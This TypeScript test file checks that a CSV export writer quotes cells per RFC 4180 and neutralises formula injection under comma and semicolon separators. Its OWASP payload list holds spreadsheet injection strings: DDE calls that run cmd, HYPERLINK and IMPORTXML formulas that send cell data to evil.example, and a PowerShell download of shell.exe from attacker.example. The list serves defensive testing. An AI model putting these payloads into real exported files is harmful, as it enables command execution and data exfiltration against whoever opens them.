// The shared CSV writer: OWASP CSV-injection payloads, RFC 4180 quoting incl. `;`, control chars.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvCell, csvRow } from '../../main/core/export/csv-cell';

/** A strict RFC 4180 reader with a configurable separator (what a spreadsheet does on import). */
function parseCsv(text: string, sep: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  let cell = '';
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"' && cell === '') {
      quoted = true;
      i++;
    } else if (c === sep) {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      cell += c;
      i++;
    }
  }
  return rows;
}

// OWASP "CSV Injection" payloads and their well-known variants.
const OWASP_PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "x;=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '\t=1+1',
  '\r=1+1',
  'DDE ("cmd";"/C calc";"!A0")A0',
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
  'a,=1+1',
  'a\n=1+1',
  '"=1+1',
];

const startsFormula = (v: string) => /^[=+\-@\t\r]/.test(v);

describe('csvCell', () => {
  it('neutralises every OWASP payload: no cell, with either separator, starts a formula', () => {
    for (const payload of OWASP_PAYLOADS) {
      const line = csvRow(['safe', payload, 'end']);
      for (const sep of [',', ';'] as const) {
        const cells = parseCsv(line, sep).flat();
        for (const cell of cells)
          expect(startsFormula(cell), `${JSON.stringify(payload)} / ${sep}`).toBe(false);
      }
      // Read with the writer's own separator, the value comes back (apostrophe-prefixed if it was a formula).
      const back = parseCsv(line, ',')[0]!;
      expect(back).toHaveLength(3);
      const inner = payload.replace(/(?<=[,;\r\n]"*)(?=[=+\-@\t\r])/g, "'");
      expect(back[1]).toBe(startsFormula(payload) ? `'${inner}` : inner);
    }
  });

  it('quotes the European-locale payload that used to be written bare', () => {
    expect(csvCell("x;=cmd|' /C calc'!A0")).toBe(`"x;'=cmd|' /C calc'!A0"`);
    expect(parseCsv(csvRow(["x;=cmd|' /C calc'!A0"]), ';')).toEqual([["x;'=cmd|' /C calc'!A0"]]);
    // Mid-row, a `;` reader splits inside the quoted cell: the piece it cuts is still text.
    expect(parseCsv(csvRow(['a', "x;=cmd|' /C calc'!A0"]), ';')).toEqual([['a,"x', `'=cmd|' /C calc'!A0"`]]);
  });

  it('quotes commas, semicolons, quotes and line breaks (RFC 4180); leaves plain cells bare', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(-3)).toBe(`"'-3"`);
  });

  it('escapes control characters other than tab, CR and LF', () => {
    expect(csvCell('a\u0000b')).toBe('a\\x00b');
    expect(csvCell('\u001b[31mred')).toBe('\\x1b[31mred');
    expect(csvCell('del\u007f')).toBe('del\\x7f');
    expect(csvCell('tab\tinside')).toBe('tab\tinside');
  });

  it('any string: one row of the same cell count, no formula start under either separator', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.string({
            unit: fc.constantFrom(
              '=',
              '+',
              '-',
              '@',
              '\t',
              '\r',
              '\n',
              '"',
              ',',
              ';',
              'a',
              ' ',
              "'",
              '\u0000',
            ),
          }),
          { minLength: 1, maxLength: 6 },
        ),
        (cells) => {
          const line = csvRow(cells);
          expect(line.endsWith('\r\n')).toBe(true);
          const rows = parseCsv(line, ',');
          expect(rows).toHaveLength(1);
          expect(rows[0]).toHaveLength(cells.length);
          // Read with the wrong separator (a `;` locale), still no cell starts a formula.
          for (const sep of [',', ';'] as const)
            for (const c of parseCsv(line, sep).flat()) expect(startsFormula(c)).toBe(false);
        },
      ),
      { numRuns: 500 },
    );
  });
});
